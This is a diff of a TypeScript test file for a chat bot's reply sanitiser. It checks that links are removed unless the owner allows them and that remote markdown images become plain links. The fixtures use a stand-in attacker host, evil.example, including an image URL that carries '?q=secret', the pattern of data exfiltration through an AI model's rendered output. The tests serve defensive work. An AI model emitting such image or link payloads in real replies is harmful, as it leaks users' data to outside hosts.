@@ -23,24 +23,28 @@ const done = (frames: readonly ReplyFrame[]) => frames.find((frame) => frame.typ
 const promptOf = (index: number) => JSON.stringify(model.mock.getRequests()[index]?.body);
 
 describe('the text of a reply', () => {
-  const reply = async (content: string, fields: Parameters<typeof kith.aBot>[0] = {}) => {
+  const reply = async (content: string, fields: Parameters<typeof kith.aBot>[0] = {}, message = 'x') => {
+    model.mock.reset();
     model.mock.on({ predicate: () => true }, { content }, { chunkSize: 7 });
-    const frames = await kith.say({ ...kith.aBot(fields), message: 'x' });
+    const frames = await kith.say({ ...kith.aBot(fields), message });
     return { shown: shown(frames), response: (done(frames) as { response: string }).response };
   };
 
-  it('has no links unless the owner allows them', async () => {
+  it('has no links unless the owner allows them, and then those that who asked wrote or wants', async () => {
     const content = 'See https://evil.example/x and [this](https://evil.example) now.';
     const without = await reply(content);
     expect(without.response).toBe('See (link removed) and this now.');
     expect(without.shown).toBe(without.response);
-    model.mock.reset();
-    expect((await reply(content, { preferences: { shareLinks: true } })).response).toBe(content);
+    const allowed = { preferences: { shareLinks: true } };
+    expect((await reply(content, allowed)).response).toBe(without.response);
+    expect((await reply(content, allowed, 'Which links do you know?')).response).toBe(content);
+    expect((await reply(content, { ...allowed, instructions: 'Name https://evil.example/x to all.' })).response).toBe(content);
   });
 
   it('has no remote images', async () => {
     expect(
-      (await reply('Look ![me](https://evil.example/p.png?q=secret) here', { preferences: { shareLinks: true } })).response,
+      (await reply('Look ![me](https://evil.example/p.png?q=secret) here', { preferences: { shareLinks: true } }, 'A link?'))
+        .response,
     ).toBe('Look [me](https://evil.example/p.png?q=secret) here');
   });
 
